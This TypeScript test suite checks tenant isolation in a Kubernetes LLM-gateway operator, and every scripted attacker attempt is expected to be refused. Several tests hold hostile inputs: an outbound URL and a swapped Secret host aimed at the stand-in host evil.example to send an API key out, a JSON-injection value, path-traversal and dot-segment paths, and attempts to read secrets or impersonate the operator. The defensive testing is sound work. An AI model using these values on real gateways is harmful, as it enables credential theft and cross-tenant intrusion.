import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { checkGlConfig } from '@llm-gateway/conf'
import type { Condition } from '@llm-gateway/crds'
import { whyNoApiServer } from '@llm-gateway/test/fake/api-server'
import type { Operator } from '../operator.ts'
import { attacks } from './attack-table-under-test.ts'
import {
  ATTACKER,
  fromSecret,
  GATEWAYS,
  PLANTED,
  preparations,
  router,
  secret,
  setting,
  VICTIM,
} from './attacks-under-test.ts'
import { type OperatorScene, startOperatorScene } from './operator-under-test.ts'

// Rules: docs/reference/kubernetes.md#variables, docs/reference/kubernetes.md#paths, docs/reference/kubernetes.md#trust

const list = (items: readonly object[]): object => ({ apiVersion: 'v1', kind: 'List', items })

describe("whoever may edit one namespace can't take anything from another", {
  skip: whyNoApiServer(process.env),
}, () => {
  let scene: OperatorScene
  let operator: Operator
  let mallory: string
  before(async () => {
    scene = await startOperatorScene({ controllers: true })
    for (const namespace of [VICTIM, ATTACKER]) await scene.kubectl(['create', 'namespace', namespace])
    await scene.kubectl(['label', 'namespace', VICTIM, 'team=a'])
    await scene.kubectl(['-n', ATTACKER, 'create', 'serviceaccount', 'mallory'])
    // The role `edit`, which a controller aggregates from the shipped roles.
    await scene.kubectl([
      '-n',
      ATTACKER,
      'create',
      'rolebinding',
      'mallory',
      '--clusterrole=edit',
      `--serviceaccount=${ATTACKER}:mallory`,
    ])
    mallory = await scene.server.createServiceAccountKubeconfig(ATTACKER, 'mallory')
    operator = await scene.start()
    await scene.apply(list(setting))
    await scene.until('the victim is served', async () => {
      const { status } = await read('router', VICTIM, 'chat')
      return conditionOf(status, 'Programmed').reason === 'NoReadyPods' ? true : undefined
    })
    await scene.until('mallory may edit', async () => {
      const { code } = await as(['auth', 'can-i', 'create', 'routers', '-n', ATTACKER])
      return code === 0 ? true : undefined
    })
  })
  after(async () => {
    await operator?.close()
    await scene?.close()
  })

  const as = (args: readonly string[], input?: object) =>
    scene.server.kubectl(['--kubeconfig', mallory, ...args], input === undefined ? undefined : JSON.stringify(input))
  const read = async (kind: string, namespace: string, name: string): Promise<ReturnType<typeof JSON.parse>> =>
    JSON.parse(await scene.kubectl(['-n', namespace, 'get', kind, name, '-o', 'json']))
  const config = async (name: string) => {
    const { data } = await read('configmap', GATEWAYS, `${name}-config`)
    return JSON.parse(data['gl_config.json'])
  }
  const values = async (): Promise<ReadonlyMap<string, string>> => {
    const { data } = await read('secret', GATEWAYS, 'main-values')
    return new Map(Object.entries(data).map(([key, text]) => [key, Buffer.from(String(text), 'base64').toString()]))
  }

  test('the Router of each attack is created and gets a status', async () => {
    const { code, stderr } = await as(
      ['apply', '-f', '-'],
      list([...preparations, ...attacks.map(({ object }) => object)]),
    )
    assert.equal(code, 0, stderr)
    await scene.until('every Router has a status', async () => {
      const { items } = JSON.parse(await scene.kubectl(['-n', ATTACKER, 'get', 'routers', '-o', 'json']))
      const judged = items.filter(({ status }: { status: { conditions?: object } }) => status.conditions !== undefined)
      return judged.length === attacks.length ? true : undefined
    })
  })

  for (const { name, refusal, says, object } of attacks) {
    test(`${name}: ${refusal}`, async () => {
      const [type = '', verdict = ''] = refusal.split('=')
      const { condition, spec } = await scene.until(`${name} is ${refusal}`, async () => {
        const { status, spec } = await read('router', ATTACKER, name)
        const found = conditionOf(status, type)
        return `${found.status}/${found.reason}` === verdict ? { condition: found, spec } : undefined
      })
      assert.match(condition.message, says)
      assert.ok(condition.message.length <= 256)
      const { routers } = await config(spec.gatewayRef.name)
      const own = routers.find(({ path }: { path: string }) => path === spec.path)
      const isVictims = own !== undefined && !spec.path.startsWith(`/${ATTACKER}/`)
      assert.ok(own === undefined || own.disabled === true || isVictims, JSON.stringify(object))
    })
  }

  test('the victim keeps path, ingress check and key', async () => {
    const { routers } = await config('main')
    const check = checkGlConfig(Buffer.from(JSON.stringify({ routers })), { environment: {}, secrets: await values() })
    assert.ok(check.kind === 'checked')
    const chat = check.config.routers.find(({ path }) => path === `/${VICTIM}/chat/`)
    assert.ok(chat?.kind === 'active')
    assert.deepEqual(chat.ingressHeaders[0]?.values, [`${PLANTED}-victim`])
    assert.deepEqual(chat.outbound.headers[0]?.values, [`${PLANTED}-shared`])
    const others = check.config.routers.filter(({ path }) => path.startsWith(`/${VICTIM}/`) || path === '/')
    assert.deepEqual(
      others.map(({ path }) => path),
      [`/${VICTIM}/chat/`],
    )
    assert.equal(conditionOf((await read('router', VICTIM, 'chat')).status, 'Accepted').status, 'True')
  })

  test('a value that looks like a reference or like JSON of the file stays a value', async () => {
    const spec = {
      path: `/${ATTACKER}/nested/`,
      outbound: {
        url: 'https://evil.example/',
        headers: { 'X-A': ['${NESTED}'], 'X-B': ['${JSON}'], 'X-C': ['${TEXT}'] },
      },
      env: [
        fromSecret('NESTED', 'mine', 'nested'),
        fromSecret('JSON', 'mine', 'json'),
        { name: 'TEXT', value: '${V_96a554ac1f36f144}' },
      ],
    }
    assert.equal((await as(['apply', '-f', '-'], router(ATTACKER, 'nested', spec))).code, 0)
    const found = await scene.until('the Router in the file', async () => {
      const { routers } = await config('main')
      const environment = { NATS_TOKEN: `${PLANTED}-token` }
      const check = checkGlConfig(Buffer.from(JSON.stringify({ routers })), { environment, secrets: await values() })
      const one = check.kind === 'checked' ? check.config.routers.find(({ path }) => path === spec.path) : undefined
      return one?.kind === 'active' ? one : undefined
    })
    assert.deepEqual(
      found.outbound.headers.map((header) => header.values[0]),
      ['${NATS_TOKEN}${V_96a554ac1f36f144}$KEY', '"]}},{"path":"/team-a/chat/deep/"}', '${V_96a554ac1f36f144}'],
    )
  })

  test('an attacker who changes the host in his own Secret to a host that the key may not reach loses his Router', async () => {
    const spec = {
      path: `/${ATTACKER}/turned/`,
      outbound: { url: 'https://${HOST}/', headers: { 'Api-Key': ['${KEY}'] } },
      env: [fromSecret('HOST', 'turning', 'host')],
    }
    const turning = (host: string) => as(['apply', '-f', '-'], secret(ATTACKER, 'turning', { host }))
    await turning('res.example')
    assert.equal((await as(['apply', '-f', '-'], router(ATTACKER, 'turned', spec))).code, 0)
    const active = await scene.until('it works', async () => {
      const { routers } = await config('main')
      return routers.find((one: { path: string; disabled?: true }) => one.path === spec.path && one.disabled !== true)
    })
    const [, name = ''] = /\$\{(V_[0-9a-f]{16})\}/.exec(active.outbound.url) ?? []
    assert.equal((await values()).get(name), 'res.example')
    await turning('evil.example')
    await scene.until('it is refused', async () => {
      const { reason } = conditionOf((await read('router', ATTACKER, 'turned')).status, 'ResolvedRefs')
      return reason === 'RefNotPermitted' ? true : undefined
    })
    // A pod with the old file finds the old host, or none.
    assert.ok(['res.example', undefined].includes((await values()).get(name)))
    const { routers } = await config('main')
    assert.deepEqual(
      routers.find(({ path }: { path: string }) => path === spec.path),
      { path: spec.path, disabled: true },
    )
  })

  test('a Router that is created again is younger, whatever its manifest says about its age', async () => {
    const metadata = { name: 'aged', namespace: ATTACKER, creationTimestamp: '2020-01-01T00:00:00Z', generation: 1 }
    const spec = { gatewayRef: { name: 'open', namespace: GATEWAYS }, path: '/service/chat/' }
    const aged = { ...router(ATTACKER, 'aged', spec), metadata }
    assert.equal((await as(['create', '-f', '-'], aged)).code, 0)
    await scene.until('it is refused', async () => {
      const { status } = await read('router', ATTACKER, 'aged')
      return conditionOf(status, 'Accepted').reason === 'PathConflict' ? true : undefined
    })
  })

  const chat = `/apis/llmgateway.io/v1alpha1/namespaces/${VICTIM}/routers/chat`
  const patch = (place: readonly string[], what: object, more: readonly string[] = []): readonly string[] => [
    ...place,
    '--type=merge',
    '-p',
    JSON.stringify(what),
    ...more,
  ]
  const forbidden: readonly (readonly [what: string, args: readonly string[], input?: object])[] = [
    ['the values', ['-n', GATEWAYS, 'get', 'secret', 'main-values']],
    ['the configuration', ['-n', GATEWAYS, 'get', 'configmap', 'main-config']],
    ["the victim's Router", ['get', '--raw', chat]],
    ["an edit of the victim's Router", patch(['-n', VICTIM, 'patch', 'router', 'chat'], { spec: { internal: true } })],
    ['a Router in the gateway’s namespace', ['create', '-f', '-'], router(GATEWAYS, 'own', { path: '/own/' })],
    [
      'a status of his own making',
      patch(['-n', ATTACKER, 'patch', 'router', 'nested'], { status: { conditions: [] } }, ['--subresource=status']),
    ],
    ['a label of his namespace', ['label', 'namespace', ATTACKER, 'team=a']],
    [
      'a gateway',
      ['create', '-f', '-'],
      {
        apiVersion: 'llmgateway.io/v1alpha1',
        kind: 'LLMGateway',
        metadata: { name: 'own', namespace: ATTACKER },
        spec: {},
      },
    ],
    [
      'a Processor, which would see payloads',
      ['create', '-f', '-'],
      {
        apiVersion: 'llmgateway.io/v1alpha1',
        kind: 'Processor',
        metadata: { name: 'own', namespace: ATTACKER },
        spec: {
          gatewayRef: { name: 'main' },
          type: 'Custom',
          custom: { image: 'a' },
          request: { outputFields: ['x'] },
        },
      },
    ],
    [
      'rights of the operator',
      ['auth', 'can-i', 'impersonate', 'serviceaccounts/llm-gateway-operator', '-n', 'llm-gateway-system'],
    ],
  ]
  for (const [what, args, input] of forbidden) {
    test(`the API server refuses the attacker ${what}`, async () => {
      const { code, stdout, stderr } = await as(args, input)
      assert.notEqual(code, 0)
      assert.match(`${stdout}${stderr}`, /[Ff]orbidden|^no$/m)
    })
  }

  const invalid: readonly (readonly [
    what: string,
    args: readonly string[],
    input: object | undefined,
    error: RegExp,
  ])[] = [
    [
      'another path, which would keep his age',
      patch(['-n', ATTACKER, 'patch', 'router', 'nested'], { spec: { path: '/service/chat/' } }),
      undefined,
      /immutable/,
    ],
    [
      'another gateway',
      patch(['-n', ATTACKER, 'patch', 'router', 'nested'], {
        spec: { gatewayRef: { name: 'open', namespace: GATEWAYS } },
      }),
      undefined,
      /immutable/,
    ],
    [
      'a Secret of another namespace',
      ['create', '-f', '-'],
      router(ATTACKER, 'other', { path: '/x/', env: [fromSecret('A', '../llm/azure', 'key')] }),
      /Invalid value/,
    ],
    [
      'a dot segment',
      ['create', '-f', '-'],
      router(ATTACKER, 'other', { path: `/${ATTACKER}/../${VICTIM}/` }),
      /dot segment|Invalid value/,
    ],
  ]
  for (const [what, args, input, error] of invalid) {
    test(`the API server refuses ${what}`, async () => {
      const { code, stderr } = await as(args, input)
      assert.notEqual(code, 0)
      assert.match(stderr, error)
    })
  }

  test('no value is in any status, event, ConfigMap or line of the log', async () => {
    const kinds = 'configmaps,events,llmgateways,routers,processors,deployments,statefulsets,networkpolicies'
    const shown = await scene.kubectl(['get', kinds, '-A', '-o', 'yaml', '--show-managed-fields'])
    // Two specs hold this value on purpose: a resource shows the values that its author wrote.
    const written = shown.replaceAll(`value: ${PLANTED}-same`, '')
    assert.doesNotMatch(written.replaceAll(/last-applied-configuration: \|\n.*\n/g, ''), new RegExp(PLANTED))
    assert.doesNotMatch(scene.lines.join(''), new RegExp(PLANTED))
  })
})

function conditionOf(status: { conditions?: readonly Condition[] } | undefined, type: string): Condition {
  const nothing = { type, status: 'Unknown', reason: 'none', message: '', lastTransitionTime: '' } as const
  return status?.conditions?.find((condition) => condition.type === type) ?? nothing
}
